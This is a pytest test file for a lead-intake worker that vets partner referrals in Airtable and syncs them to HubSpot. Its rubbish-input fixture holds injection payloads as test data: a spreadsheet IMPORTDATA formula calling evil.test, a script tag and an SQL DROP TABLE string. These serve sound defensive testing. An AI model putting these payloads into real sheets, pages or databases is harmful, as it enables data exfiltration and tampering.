"""Intake as a whole: rows that people and forms leave in the tracker, and what comes of them everywhere."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import datetime
from typing import Any

import pytest

from tests.flows.conftest import START, Desk, PlayedClock
from worker.app import App, load
from worker.domain.keys import is_lead_key
from worker.engine.runs import Outcome
from worker.planning.intake import COPY, CUSTOMER, WORKED_ON
from worker.sandbox.world import World


def intake(desk: Desk) -> Outcome:
    """Run the flow some minutes on, as the schedule does; HubSpot's search has caught up by then."""
    desk.later(minutes=5)
    return desk.run("intake")["intake"]


def quiet(desk: Desk) -> None:
    """Run once more: nothing may be written or sent."""
    before = desk.effects()
    intake(desk)
    assert before == desk.effects()


def shown(desk: Desk, row: str) -> tuple[str | None, str | None]:
    """Return status and problem of a row."""
    cells = desk.row(row)
    return cells.get("Status"), cells.get("Problem")


def deals(desk: Desk) -> list[str]:
    """Return the lead keys of all deals."""
    return sorted(str(deal["properties"].get("partner_lead_id")) for deal in desk.world.hubspot.deals())


def mailed(desk: Desk) -> list[str]:
    """Return whom mails went to."""
    return [letter.recipient for letter in desk.world.mail.received]


@pytest.fixture
def staffed(desk: Desk) -> Desk:
    """A programme with two partners who have their keys."""
    desk.partner("North Star")
    desk.partner("Blue Door")
    desk.run("intake")
    return desk


# ---- partners -------------------------------------------------------------------------------------------------------


def test_partners_get_their_keys_and_their_problems(desk: Desk) -> None:
    """Keys are short, unique and stay; what is wrong is told and goes once it is mended."""
    star = desk.partner("North Star Ltd")
    twin = desk.partner("North Star Inc", Plan="gould", Email=None)
    intake(desk)

    assert ("north-star", "north-star-2") == (desk.row(star, "Partners")["Key"], desk.row(twin, "Partners")["Key"])
    assert "Problem" not in desk.row(star, "Partners")
    told = desk.row(twin, "Partners")["Problem"]
    assert told.startswith("Plan “gould” is not in rules/commissions.toml: choose one of ")
    assert told.endswith("Neither Email nor Slack channel is filled in: the partner can't be told anything.")

    desk.world.airtable.edit(
        "Partners", twin, {"Partner": "South Star", "Plan": "gold", "Email": "a@b.test", "Key": "x/y"}
    )
    intake(desk)
    assert "Problem" not in desk.row(twin, "Partners")
    assert "south-star" == desk.row(twin, "Partners")["Key"]
    quiet(desk)


def test_a_partner_key_changed_by_hand(staffed: Desk) -> None:
    """The partner was renamed and has lines: its key is put right before any of them could be earned again."""
    row = staffed.world.airtable.rows("Partners")[0]["id"]
    lead = staffed.lead("North Star", "Acme")
    intake(staffed)
    staffed.win(staffed.row(lead)["Deal ID"])
    staffed.later(minutes=5)
    staffed.run()
    staffed.world.airtable.edit("Partners", row, {"Partner": "South Star"})
    staffed.world.airtable.edit("Leads", lead, {"Partner": "South Star"})
    staffed.later(minutes=5)
    staffed.run()
    lines = staffed.rows("Commissions")
    assert {("South Star", "north-star")} == {(line["Partner"], line["Line"].split("/")[1]) for line in lines}

    for changed in ("south-star", None):
        staffed.world.airtable.edit("Partners", row, {"Key": changed})
        staffed.later(minutes=5)
        staffed.run("commissions")
        staffed.run()
        assert "north-star" == staffed.row(row, "Partners")["Key"]
        assert lines == staffed.rows("Commissions")


def test_a_copied_partner_row_is_a_partner_of_its_own(staffed: Desk) -> None:
    """Staff copy a row to add a partner: the copy gets a key, the original keeps its own."""
    rows = staffed.world.airtable.rows("Partners")
    copy = staffed.world.airtable.duplicate("Partners", rows[0]["id"])
    staffed.world.airtable.edit("Partners", copy, {"Partner": "Third Wave", "Company domain": "third-wave.test"})
    lead = staffed.lead("Third Wave", "Acme")
    intake(staffed)

    assert ["north-star", "blue-door", "third-wave"] == [row["Key"] for row in staffed.rows("Partners")]
    assert "Qualified" == staffed.row(lead)["Status"]
    assert "third-wave" == staffed.world.hubspot.deals()[0]["properties"]["source_partner"]


# ---- rubbish --------------------------------------------------------------------------------------------------------

RUBBISH: Mapping[str, Mapping[str, Any]] = {
    "emoji only": {"Company": "🚀🚀🚀", "First name": "😀", "Email": "💌"},
    "a hundred thousand characters": dict.fromkeys(("Company", "Website", "Email", "Notes", "Phone"), "x" * 100000),
    "control characters": {"Company": "\x01\x02\x1f", "Email": "jo\x00@acme.com", "Notes": "\x07"},
    "formula text": {"Company": '=IMPORTDATA("http://evil.test")', "Email": "=1+1", "Website": "=A1"},
    "markup": {"Company": "<script>alert(1)</script>", "Email": "<b>jo@acme.com</b>", "Phone": "<script>"},
    "nothing but the partner": {"Company": None, "Website": None, "First name": None, "Last name": None, "Email": None},
    "an unknown partner": {"Partner": "'; DROP TABLE Partners; --"},
    "numbers": {"Company": "12345", "Email": "12345", "Country": "12345", "Currency": "12345"},
    "a sum that nobody pays": {"Estimated value": -5},
    "a day before all others": {"Submitted": "0001-01-01T00:00:00.000Z"},
    "right to left and zero width": {"Company": "\u202e\u200b\u200d", "Website": "\u200b", "Email": "\u200bjo"},
}


def test_rows_of_rubbish_stop_nobody(staffed: Desk) -> None:
    """Each is told what is wrong with it, none reaches the CRM, and the good row among them goes through."""
    rows = {name: staffed.lead("North Star", f"Junk {n}", **cells) for n, (name, cells) in enumerate(RUBBISH.items())}
    empty = staffed.world.airtable.add_row("Leads", {})
    blank = staffed.world.airtable.add_row("Leads", {"Company": " \n", "Notes": "\t"})
    good = staffed.lead("North Star", "Good")
    outcome = intake(staffed)

    assert ("in sync", ()) == (outcome.state, outcome.result.errors if outcome.result else None)
    assert "Qualified" == staffed.row(good)["Status"]
    assert [staffed.row(good)["Lead"]] == deals(staffed)
    for name, row in rows.items():
        status, problem = shown(staffed, row)
        assert ("Needs attention", True) == (status, is_lead_key(staffed.row(row)["Lead"])), name
        assert problem is not None, name
        assert ": " in problem, name
        assert len(problem) < 1500, name
    assert ({}, {"Company", "Notes"}) == (staffed.row(empty), staffed.row(blank).keys())
    quiet(staffed)


@pytest.mark.parametrize(
    ("spoilt", "starts", "mended"),
    [
        ({"Company": None}, "Company is missing: fill it in", {"Company": "Acme"}),
        ({"Email": "jo@"}, "Email is not an e-mail address", {"Email": "jo@acme.com"}),
        ({"Website": "n/a"}, "Website is not a web address", {"Website": None}),
        ({"Phone": "12"}, "Phone is not a telephone number", {"Phone": "020 7946 0958"}),
        ({"Country": "Narnia"}, "Country is not a country", {"Country": "UK"}),
        ({"Currency": "quid"}, "Currency is not the code of a currency", {"Currency": "gbp"}),
        ({"Estimated value": -1}, "Estimated value is not a sum", {"Estimated value": 1}),
        ({"Partner": "Nobody"}, "Partner “Nobody” is not in the Partners table", {"Partner": "north-star"}),
        ({"Email": "jo@north-star.test"}, "This lead is the partner's own company", {"Email": "jo@acme.com"}),
        ({"Website": "north-star.test"}, "This lead is the partner's own company", {"Website": "acme.com"}),
    ],
)
def test_a_refusal_clears_itself_once_mended(
    staffed: Desk, spoilt: dict[str, Any], starts: str, mended: dict[str, Any]
) -> None:
    """The problem names the field; when the row is right, status and problem are rewritten and the lead is pushed."""
    row = staffed.lead("North Star", "Acme", **spoilt)
    intake(staffed)
    status, problem = shown(staffed, row)
    assert ("Needs attention", []) == (status, mailed(staffed))
    assert str(problem).startswith(starts)
    quiet(staffed)

    staffed.world.airtable.edit("Leads", row, mended)
    intake(staffed)
    assert ("Qualified", None) == shown(staffed, row)
    assert [staffed.row(row)["Lead"]] == deals(staffed)
    assert ["money@north-star.test"] == mailed(staffed)
    quiet(staffed)


def test_a_lead_from_a_partner_who_is_not_enrolled(staffed: Desk) -> None:
    """It waits until the partner is; the reason is the row's to show."""
    paused = staffed.partner("Idle Hands", Status="Paused")
    row = staffed.lead("Idle Hands", "Acme")
    intake(staffed)
    assert "Needs attention" == staffed.row(row)["Status"]
    assert "set the partner's Status to Enrolled" in staffed.row(row)["Problem"]

    staffed.world.airtable.edit("Partners", paused, {"Status": "Enrolled"})
    intake(staffed)
    assert ("Qualified", None) == shown(staffed, row)


def test_a_member_is_no_lead_of_the_own_partner(staffed: Desk) -> None:
    """Addresses of the Members table count, also those at free-mail hosts."""
    staffed.world.airtable.add_row("Members", {"Email": "Sam@Gmail.com", "Partner": "north-star"})
    own = staffed.lead("North Star", "Sam", Email="sam@gmail.com", Website=None)
    other = staffed.lead("Blue Door", "Sam", Email="sam@gmail.com", Website=None)
    intake(staffed)

    assert "This lead is the partner's own company" in staffed.row(own)["Problem"]
    assert "Qualified" == staffed.row(other)["Status"]


# ---- the same company -----------------------------------------------------------------------------------------------


def test_the_first_to_submit_has_the_company(staffed: Desk) -> None:
    """By the time of submission, not by the order of rows; nobody learns of another partner, or who was first."""
    late = staffed.lead("Blue Door", "Acme", Submitted="2026-01-10T10:00:00.000Z")
    early = staffed.lead("North Star", "ACME Corp", Website="acme.com", Submitted="2026-01-09T10:00:00.000Z")
    again = staffed.lead("north-star", "Acme", Email="al@gmail.com", Website="shop.acme.com")
    intake(staffed)

    assert ("Qualified", None) == shown(staffed, early)
    assert ("Duplicate", WORKED_ON) == shown(staffed, late)
    key = staffed.row(early)["Lead"]
    assert ("Duplicate", True) == (
        staffed.row(again)["Status"],
        staffed.row(again)["Problem"].startswith(f"You sent us this company already, on 9 January 2026 ({key}): "),
    )
    for row in (late, again):
        assert "Blue Door" not in staffed.row(row)["Problem"]
        assert "North Star" not in staffed.row(row)["Problem"]
    assert [key] == deals(staffed)
    assert ["money@north-star.test"] == mailed(staffed)
    quiet(staffed)


def test_a_claim_ends_with_its_window(staffed: Desk) -> None:
    """An open deal still refuses after that; once it is closed without a win, the company is free."""
    first = staffed.lead("North Star", "Acme")
    intake(staffed)
    staffed.later(days=181)
    second = staffed.lead("Blue Door", "Acme")
    intake(staffed)
    assert ("Duplicate", WORKED_ON) == shown(staffed, second)

    staffed.world.hubspot.move_deal(staffed.row(first)["Deal ID"], "closedlost")
    staffed.later(hours=1)
    intake(staffed)
    assert ("Qualified", None) == shown(staffed, second)
    assert 1 == len(staffed.world.hubspot.companies())


def test_a_lost_lead_frees_its_company_for_a_new_one(staffed: Desk) -> None:
    """At once, whatever was answered to another row half an hour ago."""
    first = staffed.lead("North Star", "Acme")
    intake(staffed)
    refused = staffed.lead("Blue Door", "Acme", Submitted="2026-02-01T00:00:00.000Z")
    intake(staffed)
    assert "Duplicate" == staffed.row(refused)["Status"]

    staffed.world.hubspot.move_deal(staffed.row(first)["Deal ID"], "closedlost")
    fresh = staffed.lead("Blue Door", "Acme", Email="new@acme.com")
    staffed.later(minutes=5)
    staffed.run("intake", "stages")
    assert ("Qualified", None) == shown(staffed, fresh)
    assert "Duplicate" == staffed.row(refused)["Status"]


@pytest.mark.parametrize(
    ("state", "problem"), [("open", WORKED_ON), ("won", CUSTOMER), ("customer", CUSTOMER), ("lost", None)]
)
def test_companies_that_the_crm_knows(staffed: Desk, state: str, problem: str | None) -> None:
    """Sales may have an open deal, or the company buys already; one that was lost is no hindrance."""
    hubspot = staffed.world.hubspot
    company = hubspot.add_company({"name": "Acme", "domain": "acme.com"})
    if state == "customer":
        hubspot.edit("companies", company, {"lifecyclestage": "customer"})
    else:
        deal = hubspot.add_deal({"dealname": "Own"}, company=company)
        if state != "open":
            hubspot.move_deal(deal, f"closed{state}")
    staffed.later(minutes=5)
    row = staffed.lead("North Star", "Acme", Website="https://shop.acme.com/x")
    intake(staffed)

    assert (("Duplicate", problem) if problem else ("Qualified", None)) == shown(staffed, row)
    if problem is None:
        assert company == staffed.row(row)["Client ID"]
        assert 1 == len(hubspot.companies())
    quiet(staffed)


def test_free_mail_and_shared_hosts_identify_nobody(staffed: Desk) -> None:
    """Two people at one free-mail host, with pages at one network, are two leads; one person twice is one."""
    rows = [
        staffed.lead("North Star", name, Email=email, Website=page)
        for name, email, page in (
            ("Jo's Bakery", "jo@gmail.com", "https://www.linkedin.com/company/jo"),
            ("Al's Cars", "al@gmail.com", "https://www.linkedin.com/company/al"),
            ("Wordy", "wo@hotmail.co.uk", "https://wordy.wordpress.com"),
            ("Pressy", "pr@hotmail.co.uk", "https://pressy.wordpress.com"),
            ("Bakery of Jo", "JO@gmail.com", None),
        )
    ]
    intake(staffed)

    assert ["Qualified"] * 4 + ["Duplicate"] == [staffed.row(row)["Status"] for row in rows]
    assert 4 == len(staffed.world.hubspot.companies())


def test_a_deal_of_ours_that_was_not_written_down(staffed: Desk) -> None:
    """The ids were lost from the row: the deal is found by its key, not refused as open, nor made or told of again."""
    row = staffed.lead("North Star", "Acme")
    intake(staffed)
    before = staffed.row(row)
    staffed.win(before["Deal ID"])
    staffed.later(minutes=5)
    staffed.run("stages")
    told = mailed(staffed)

    staffed.world.airtable.edit("Leads", row, {"Deal ID": None, "Client ID": None, "Contact ID": None})
    intake(staffed)
    after = staffed.row(row)
    assert before["Deal ID"] == after["Deal ID"]
    assert (before["Client ID"], before["Contact ID"], "Won") == (
        after["Client ID"], after["Contact ID"], after["Status"],
    )  # fmt: skip
    assert 1 == len(deals(staffed))
    assert told == mailed(staffed)


# ---- copies ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def copied(staffed: Desk) -> tuple[str, str]:
    """A lead in the CRM, and a copy of its row with every cell that the worker wrote."""
    original = staffed.lead("North Star", "Acme")
    intake(staffed)
    return original, staffed.world.airtable.duplicate("Leads", original)


def test_a_copied_row_is_told_and_never_pushed(staffed: Desk, copied: tuple[str, str]) -> None:
    """The original goes on as before."""
    original, copy = copied
    intake(staffed)

    assert ("Duplicate", COPY) == shown(staffed, copy)
    assert ("Qualified", None) == shown(staffed, original)
    assert 1 == len(deals(staffed))
    quiet(staffed)
    staffed.run("stages")
    assert "Duplicate" == staffed.row(copy)["Status"]


@pytest.mark.parametrize("left", [("Deal ID", "Client ID", "Contact ID"), ("Lead",)])
def test_a_copy_of_which_some_cells_were_cleared(staffed: Desk, copied: tuple[str, str], left: tuple[str, ...]) -> None:
    """Key or deal alone make it a copy still."""
    staffed.world.airtable.edit("Leads", copied[1], dict.fromkeys(left))
    intake(staffed)

    assert ("Duplicate", COPY) == shown(staffed, copied[1])
    assert 1 == len(deals(staffed))


def test_a_copy_whose_original_is_deleted(staffed: Desk, copied: tuple[str, str]) -> None:
    """It takes the original's place, with or without its deal's id."""
    original, copy = copied
    intake(staffed)
    key = staffed.row(original)["Lead"]
    staffed.world.airtable.delete("Leads", original)
    staffed.later(minutes=5)
    staffed.run("intake", "stages")
    assert ("Qualified", None) == shown(staffed, copy)

    staffed.world.airtable.edit("Leads", copy, {"Deal ID": None})
    staffed.later(minutes=5)
    staffed.run("intake", "stages")
    assert (key, "Qualified", None) == (staffed.row(copy)["Lead"], *shown(staffed, copy))
    assert staffed.world.hubspot.deals()[0]["id"] == staffed.row(copy)["Deal ID"]
    assert 1 == len(deals(staffed))


def test_a_copy_whose_cells_are_cleared_is_a_lead_of_its_own(staffed: Desk, copied: tuple[str, str]) -> None:
    """With another company in it, it is vetted, pushed and acknowledged like any."""
    original, copy = copied
    intake(staffed)
    staffed.world.airtable.edit("Leads", copy, {
        "Lead": None, "Deal ID": None, "Client ID": None, "Contact ID": None, "Company": "Other",
        "Website": "other.com", "Email": "jo@other.com",
    })  # fmt: skip
    intake(staffed)

    assert ("Qualified", None) == shown(staffed, copy)
    assert sorted([staffed.row(original)["Lead"], staffed.row(copy)["Lead"]]) == deals(staffed)
    assert 2 == len(set(deals(staffed)))
    assert 2 == len(mailed(staffed))


def test_a_key_that_was_cleared_comes_back(staffed: Desk) -> None:
    """Before anything is planned with its row, so no line of its deal is given up."""
    row = staffed.lead("North Star", "Acme")
    intake(staffed)
    staffed.win(staffed.row(row)["Deal ID"])
    staffed.later(minutes=5)
    staffed.run()
    key, lines = staffed.row(row)["Lead"], staffed.rows("Commissions")

    staffed.world.airtable.edit("Leads", row, {"Lead": None})
    staffed.later(minutes=5)
    staffed.run("commissions")
    assert lines == staffed.rows("Commissions")
    intake(staffed)
    assert key == staffed.row(row)["Lead"]
    assert 1 == len(deals(staffed))


# ---- hold, and leads that we send -----------------------------------------------------------------------------------


def test_hold_ticked_and_unticked(staffed: Desk) -> None:
    """A held row goes nowhere and is told nothing; it keeps its place, and goes through once it is free."""
    held = staffed.lead("North Star", "Acme", Hold=True)
    rival = staffed.lead("Blue Door", "Acme")
    intake(staffed)
    assert (("On hold", None), ("Duplicate", WORKED_ON)) == (shown(staffed, held), shown(staffed, rival))
    assert ([], []) == (deals(staffed), mailed(staffed))
    quiet(staffed)

    staffed.world.airtable.edit("Leads", held, {"Hold": False})
    intake(staffed)
    assert ("Qualified", None) == shown(staffed, held)
    assert ["money@north-star.test"] == mailed(staffed)


def test_a_lead_that_we_sent_gets_a_key_only(staffed: Desk) -> None:
    """It is ours, not the partner's: never pushed, vetted or told of."""
    row = staffed.lead("North Star", "Acme", Direction="Sent", Email="rubbish")
    rival = staffed.lead("Blue Door", "Acme")
    intake(staffed)

    assert is_lead_key(staffed.row(row)["Lead"])
    assert (None, None) == shown(staffed, row)
    assert "Qualified" == staffed.row(rival)["Status"]
    quiet(staffed)


# ---- rows still being typed -----------------------------------------------------------------------------------------


class TypingClock(PlayedClock):
    """A clock during whose waits somebody goes on typing."""

    def __init__(self, world: World, typing: Callable[[], None]) -> None:
        super().__init__(world.clock)
        self.typing = typing

    def sleep(self, seconds: float) -> None:
        super().sleep(seconds)
        if seconds >= 5:
            self.typing()


def run_while(desk: Desk, typing: Callable[[], None]) -> Outcome:
    """Run intake while somebody types."""
    desk.later(minutes=5)
    config, loaded = load(desk.config)
    with App(config, loaded, clock=TypingClock(desk.world, typing)) as app:
        return app.run(["intake"])["intake"]


def test_a_row_still_being_typed_is_left(staffed: Desk) -> None:
    """Its neighbour goes through; it follows as soon as nobody types in it."""
    half = staffed.lead("North Star", "Ac", Email=None)
    done = staffed.lead("North Star", "Other")

    def type_on() -> None:
        staffed.world.airtable.edit("Leads", half, {"Company": "Acme", "Email": "jo@acme.com"})

    run_while(staffed, type_on)
    assert "Qualified" == staffed.row(done)["Status"]
    assert {"Lead", "Status", "Problem"}.isdisjoint(staffed.row(half))

    intake(staffed)
    assert ("Qualified", "Acme") == (staffed.row(half)["Status"], staffed.row(half)["Company"])


def test_a_second_look_costs_one_poll(staffed: Desk) -> None:
    """And only when a row is new; with `settle_seconds = 0` there is none, and no wait."""
    log = staffed.world.servers["airtable"].log

    def polls() -> int:
        before = len(log)
        intake(staffed)
        return sum(call.method == "GET" for call in log[before:])

    polls()
    quiet_polls = polls()
    staffed.lead("North Star", "Acme", Country="Narnia")
    first, second = polls(), polls()
    assert (1, 0) == (first - quiet_polls - 1, second - quiet_polls)  # a poll, and the new row itself

    rules = staffed.rules / "intake.toml"
    rules.write_text(rules.read_text().replace("settle_seconds = 5", "settle_seconds = 0"))
    staffed.lead("North Star", "Other", Country="Narnia")
    before = staffed.world.clock.now()
    assert 1 == polls() - quiet_polls
    assert (staffed.world.clock.now() - before).total_seconds() < 304


def test_a_base_without_a_feed_reads_one_table_twice(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """A token that may make no hooks: the second look is at the leads alone."""
    monkeypatch.setenv("AIRTABLE_TOKEN", "patPLAIN")
    desk.world.airtable.add_token("patPLAIN", scopes={"data.records:read", "data.records:write", "schema.bases:read"})
    desk.partner("North Star")
    intake(desk)
    log = desk.world.servers["airtable"].log
    before = len(log)
    desk.lead("North Star", "Acme", Country="Narnia")
    intake(desk)

    reads = [call for call in log[before:] if call.method == "GET" and "/meta/" not in call.path]
    assert 7 == len(reads)  # six tables, and one of them again


# ---- when the CRM is away -------------------------------------------------------------------------------------------


def test_a_crm_that_is_down_stops_no_partner(staffed: Desk) -> None:
    """The run says so, and the next one goes on where it was; the lead is told of once."""
    row = staffed.lead("North Star", "Acme")
    staffed.world.hubspot.faults.order("status", times=500, options={"status": 503})
    outcome = intake(staffed)
    assert "failed" == outcome.state
    assert "hubspot" in outcome.words.lower()
    assert [] == mailed(staffed)

    staffed.world.hubspot.faults.clear()
    intake(staffed)
    assert ("Qualified", None) == shown(staffed, row)
    assert ["money@north-star.test"] == mailed(staffed)


def test_a_lead_that_the_crm_refuses(staffed: Desk) -> None:
    """What HubSpot says stands in the row, and is taken away when it takes the lead."""
    hubspot = staffed.world.hubspot
    row = staffed.lead("North Star", "Acme", Currency="NOK", **{"Estimated value": 5})
    good = staffed.lead("North Star", "Good")
    intake(staffed)
    status, problem = shown(staffed, row)
    assert ("Needs attention", "Qualified") == (status, staffed.row(good)["Status"])
    assert str(problem).startswith("The CRM (HubSpot) refused this lead: ")
    assert str(problem).endswith(": correct Currency in the row")

    staffed.world.airtable.edit("Leads", row, {"Currency": "GBP"})
    intake(staffed)
    assert ("Qualified", None) == shown(staffed, row)
    assert 2 == len(hubspot.deals())


def test_the_row_knows_when_it_was_synced(staffed: Desk) -> None:
    """`Synced` is the time of the run that wrote the ids."""
    row = staffed.lead("North Star", "Acme")
    intake(staffed)

    synced = datetime.fromisoformat(staffed.row(row)["Synced"])
    assert START < synced <= staffed.world.clock.now()
